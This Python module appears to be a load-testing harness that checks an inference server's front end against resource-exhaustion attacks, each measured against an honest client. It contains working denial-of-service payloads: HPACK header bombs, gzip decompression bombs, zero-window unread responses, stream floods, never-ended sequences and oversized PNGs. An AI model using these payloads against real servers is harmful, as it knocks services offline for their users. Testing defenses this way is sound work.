"""One client beside another: what each makes a front end hold and decode is charged to it alone.

Each kind of attack takes the number of its connections, and a key where the server asks for one. It comes
from addresses of its own: without keys, those are what tells clients apart.
"""

import contextlib
import gzip
import io
import json
import selectors
import socket
import struct
import time
from collections.abc import Callable, Iterator
from functools import cache, partial

from PIL import Image

from attacks.attacker import HOST, Attack, Pace, Ports, post

ADDRESS = "127.0.0.2"
KEY = "mallorys-own-key-0001"
ROUND_S = 3.0  # for so long connections are held
_PATIENCE_S = 5.0
_SERVICE = "/inference.GRPCInferenceService/"
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST, _SETTINGS, _PING, _WINDOW = 0, 1, 3, 4, 6, 8
_UNREAD_A_SECOND = 400  # answers of 256 KB: what a model makes of more is not for the front end to bound
_NO_WINDOW = struct.pack(">HI", 4, 0)


def connect(port: int, address: str = ADDRESS) -> socket.socket:
    return socket.create_connection((HOST, port), _PATIENCE_S, source_address=(address, 0))


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _length(size: int, prefix: int, mask: int) -> bytes:
    if size < mask:
        return bytes([prefix | size])
    out, size = bytes([prefix | mask]), size - mask
    while size > 127:
        out += bytes([size & 127 | 128])
        size >>= 7
    return out + bytes([size])


def _text(text: bytes) -> bytes:
    return _length(len(text), 0, 127) + text


def _literal(name: bytes, value: bytes) -> bytes:
    return b"\x00" + _text(name) + _text(value)


def grpc_head(path: str, key: str = "", *more: tuple[bytes, bytes]) -> bytes:
    fields = [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", b"x"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
        *more,
    ]
    if key:
        fields.append((b"x-api-key", key.encode()))
    return b"".join(_literal(*field) for field in fields)


def grpc_message(data: bytes, compressed: bool = False) -> bytes:
    return struct.pack(">BI", compressed, len(data)) + data


def _varint(value: int) -> bytes:
    return _length(value, 0, 128) if value < 128 else bytes([value & 127 | 128]) + _varint(value >> 7)


def infer(model: str, size: int) -> bytes:
    """A ModelInferRequest with a tensor of so many bytes."""
    tensor = b"\x0a\x01x\x12\x05UINT8\x1a" + _field_of_shape(size)
    start = b"\x0a" + _varint(len(model)) + model.encode() + b"\x2a" + _varint(len(tensor)) + tensor
    return start + b"\x3a" + _varint(size) + bytes(size)


def _field_of_shape(size: int) -> bytes:
    shape = _varint(1) + _varint(size)
    return _varint(len(shape)) + shape


@contextlib.contextmanager
def _opened(port: int, connections: int, settings: bytes = b"") -> Iterator[list[socket.socket]]:
    with contextlib.ExitStack() as held:
        clients = []
        for _ in range(connections):
            client = held.enter_context(connect(port))
            client.sendall(_PREFACE + frame(_SETTINGS, 0, 0, settings))
            clients.append(client)
        yield clients


def _send(client: socket.socket, data: bytes) -> None:
    """As much as it takes: a server that does not read is not waited for."""
    client.settimeout(0.2)
    with contextlib.suppress(OSError):
        client.sendall(data)


def _drain(clients: list[socket.socket], until: float, pace: Pace) -> None:
    """Read whatever comes, until then."""
    with selectors.DefaultSelector() as ready:
        for client in clients:
            client.setblocking(False)
            ready.register(client, selectors.EVENT_READ)
        while time.monotonic() < until and ready.get_map():
            for key, _ in ready.select(0.05):
                try:
                    gone = not key.fileobj.recv(1 << 18)  # type: ignore[union-attr]
                except OSError:
                    gone = True
                if gone:
                    ready.unregister(key.fileobj)
            pace.rest()


# ── the attacks ──


def header_bombs(connections: int, _key: str, ports: Ports, pace: Pace) -> None:
    """An entry of 4,000 bytes in the table, then heads of 655 bytes that name it 500 times."""
    entry = b"\x40" + _text(b"x") + _text(b"y" * 4000)
    with _opened(ports.grpc, connections) as clients:
        for client in clients:
            _send(client, frame(_HEADERS, 4, 1, grpc_head(_SERVICE + "ModelInfer") + entry))
        end = time.monotonic() + ROUND_S
        number = 3
        while time.monotonic() < end:
            for client in clients:
                block = grpc_head(_SERVICE + "ModelInfer", "", (b"z", b"%d" % number)) + b"\xbe" * 500
                _send(client, frame(_HEADERS, 4, number, block))
            number += 2
            pace.rest()


def silent_calls(path: str, connections: int, key: str, ports: Ports, pace: Pace) -> None:
    """As many calls as a connection takes, none of which brings anything."""
    body = frame(_DATA, 1, 0, grpc_message(b"")) if path.endswith("Watch") else b""
    with _opened(ports.grpc, connections) as clients:
        for client in clients:
            for number in range(1, 512, 2):
                data = frame(_HEADERS, 4, number, grpc_head(path, key))
                if body:
                    data += frame(_DATA, 1, number, grpc_message(b""))
                _send(client, data)
            pace.rest()
        _drain(clients, time.monotonic() + ROUND_S, pace)


def unread_unary(connections: int, key: str, ports: Ports, pace: Pace) -> None:
    """Answers of 256 KB that no window has room for."""
    ask = grpc_message(infer("wide", 64))
    with _opened(ports.grpc, connections, _NO_WINDOW) as clients:
        end, number = time.monotonic() + ROUND_S, 1
        while time.monotonic() < end:
            for client in clients:
                _send(
                    client,
                    frame(_HEADERS, 4, number, grpc_head(_SERVICE + "ModelInfer", key))
                    + frame(_DATA, 1, number, ask),
                )
            number += 2
            pace.rest()
            time.sleep(connections / _UNREAD_A_SECOND)


def unread_http(connections: int, key: str, ports: Ports, pace: Pace) -> None:
    body = bytes(64)
    fields = b"Inference-Header-Content-Length: 0\r\n" + (b"X-API-Key: %b\r\n" % key.encode() if key else b"")
    with contextlib.ExitStack() as held:
        clients = [held.enter_context(connect(ports.http)) for _ in range(connections)]
        end = time.monotonic() + ROUND_S
        while time.monotonic() < end:
            for client in clients:
                _send(client, post("/v2/models/wide/infer", len(body), fields) + body)
            pace.rest()
            time.sleep(connections / _UNREAD_A_SECOND)


def empty_messages(connections: int, key: str, ports: Ports, pace: Pace) -> None:
    """Five bytes at a time, on 200 streams of each connection."""
    streams = range(1, 400, 2)
    with _opened(ports.grpc, connections) as clients:
        for client in clients:
            head = grpc_head(_SERVICE + "ModelStreamInfer", key)
            _send(client, b"".join(frame(_HEADERS, 4, number, head) for number in streams))
        end = time.monotonic() + ROUND_S
        piece = b"".join(frame(_DATA, 0, number, grpc_message(b"") * 8) for number in streams)
        while time.monotonic() < end:
            for client in clients:
                _send(client, piece)
            _drain(list(clients), time.monotonic() + 0.01, pace)
            pace.rest()


@cache
def _zipped(model: str) -> bytes:
    return gzip.compress(infer(model, 60 << 20), 9)


def zipped_messages(model: str, connections: int, key: str, ports: Ports, pace: Pace) -> None:
    """60 KB that become 60 MB."""
    head = grpc_head(_SERVICE + "ModelInfer", key, (b"grpc-encoding", b"gzip"))
    message = grpc_message(_zipped(model), compressed=True)
    with _opened(ports.grpc, connections) as clients:
        end, number = time.monotonic() + ROUND_S, 1
        while time.monotonic() < end:
            for client in clients:
                data = frame(_HEADERS, 4, number, head)
                for start in range(0, len(message), 16_000):
                    piece = message[start : start + 16_000]
                    data += frame(_DATA, int(start + 16_000 >= len(message)), number, piece)
                _send(client, data)
            number += 2
            _drain(list(clients), time.monotonic() + 0.05, pace)


def zipped_bodies(connections: int, key: str, ports: Ports, pace: Pace) -> None:
    """The same over HTTP."""
    body = gzip.compress(bytes(60 << 20), 9)
    fields = b"Content-Encoding: gzip\r\n" + (b"X-API-Key: %b\r\n" % key.encode() if key else b"")
    with contextlib.ExitStack() as held:
        clients = [held.enter_context(connect(ports.http)) for _ in range(connections)]
        end = time.monotonic() + ROUND_S
        while time.monotonic() < end:
            for client in clients:
                _send(client, post("/v2/models/free/infer", len(body), fields) + body)
            _drain(list(clients), time.monotonic() + 0.1, pace)


def sequence_step(name: int, *, end: bool) -> bytes:
    """A request that starts a sequence, and ends it."""
    tensor = {"name": "x", "datatype": "FP32", "shape": [1, 2], "data": [0, 0]}
    said = {"sequence_id": name, "sequence_start": True, "sequence_end": end}
    return json.dumps({"inputs": [tensor], "parameters": said}).encode()


def open_sequences(connections: int, key: str, ports: Ports, pace: Pace) -> None:
    """Sequences that are started and never ended, 50 a second."""
    fields = b"X-API-Key: %b\r\n" % key.encode() if key else b""
    with contextlib.ExitStack() as held:
        clients = [held.enter_context(connect(ports.http)) for _ in range(connections)]
        end, name = time.monotonic() + ROUND_S, 1
        while time.monotonic() < end:
            client, name = clients[name % connections], name + 1
            body = sequence_step(name, end=False)
            _send(client, post("/v2/models/tracker/infer", len(body), fields) + body)
            _drain([client], time.monotonic() + 0.02, pace)


def event_stream(reads: bool, connections: int, key: str, ports: Ports, pace: Pace) -> None:
    """Answers of 16,384 floats of a decoupled model, read as fast as they come or not at all."""
    body = json.dumps({"count": 100_000}).encode()
    fields = b"X-API-Key: %b\r\n" % key.encode() if key else b""
    with contextlib.ExitStack() as held:
        clients = [held.enter_context(connect(ports.http)) for _ in range(connections)]
        for client in clients:
            _send(client, post("/v2/models/many/generate_stream", len(body), fields) + body)
        end = time.monotonic() + ROUND_S
        if reads:
            _drain(clients, end, pace)
        else:
            time.sleep(max(0.0, end - time.monotonic()))


def model_stream(reads: bool, connections: int, key: str, ports: Ports, pace: Pace) -> None:
    """The same over gRPC."""
    tensor = b"\x0a\x05count\x12\x05INT32\x1a\x02\x01\x01"
    ask = b"\x0a\x04many\x2a" + _varint(len(tensor)) + tensor + b"\x3a\x04" + struct.pack("<i", 100_000)
    settings = b"" if not reads else struct.pack(">HI", 4, (1 << 31) - 1)
    with _opened(ports.grpc, connections, settings) as clients:
        for client in clients:
            head = grpc_head(_SERVICE + "ModelStreamInfer", key)
            _send(
                client,
                frame(_WINDOW, 0, 0, struct.pack(">I", 1 << 30))
                + frame(_HEADERS, 4, 1, head)
                + frame(_DATA, 0, 1, grpc_message(ask)),
            )
        end = time.monotonic() + ROUND_S
        if reads:
            _drain(clients, end, pace)
        else:
            time.sleep(max(0.0, end - time.monotonic()))


@cache
def _large_png() -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (7000, 7000), (1, 2, 3)).save(file, "PNG", compress_level=1)
    return file.getvalue()


def large_pictures(connections: int, key: str, ports: Ports, pace: Pace) -> None:
    """Allowed PNGs of 7,000 × 7,000 pixels, each from an address of its own."""
    body = _large_png()
    fields = b"Content-Type: image/png\r\n" + (b"X-API-Key: %b\r\n" % key.encode() if key else b"")
    request = post("/models/pictures/predict", len(body), fields) + body
    with contextlib.ExitStack() as held:
        clients = [
            held.enter_context(connect(ports.http, f"127.0.1.{number + 1}")) for number in range(connections)
        ]
        end = time.monotonic() + ROUND_S
        while time.monotonic() < end:
            for client in clients:
                _send(client, request)
            _drain(list(clients), time.monotonic() + 0.2, pace)


Kind = Callable[[int, str, Ports, Pace], None]
KINDS: dict[str, tuple[Kind, str]] = {
    "N1 events, read": (partial(event_stream, True), "http"),
    "N1 events, unread": (partial(event_stream, False), "http"),
    "N1 stream, read": (partial(model_stream, True), "grpc"),
    "N1 stream, unread": (partial(model_stream, False), "grpc"),
    "N2 header bombs": (header_bombs, "grpc"),
    "N3 silent calls": (partial(silent_calls, _SERVICE + "ModelInfer"), "grpc"),
    "N3 Health/Watch": (partial(silent_calls, "/grpc.health.v1.Health/Watch"), "grpc"),
    "N4 unread unary answers": (unread_unary, "grpc"),
    "N4 unread HTTP answers": (unread_http, "http"),
    "N6 empty messages": (empty_messages, "grpc"),
    "N7 places of sequences": (open_sequences, "sequences"),
    "N8 gzip for a small model": (partial(zipped_messages, "fast"), "grpc"),
    "N8 gzip for any size": (partial(zipped_messages, "free"), "grpc"),
    "N8 gzip over HTTP": (zipped_bodies, "http"),
    "N9 pictures of 49 megapixels": (large_pictures, "pictures"),
}
"""Each with the honest client that it is measured by."""


def weapon() -> None:
    for made in (_large_png, partial(_zipped, "fast"), partial(_zipped, "free")):
        made()


def attack(kind: str, connections: int, *, keyed: bool) -> Attack:
    run = partial(KINDS[kind][0], connections, KEY if keyed else "")
    needed = {"N9": _large_png, "N8": partial(_zipped, "free")}
    return Attack(run, needed.get(kind[:2], int))
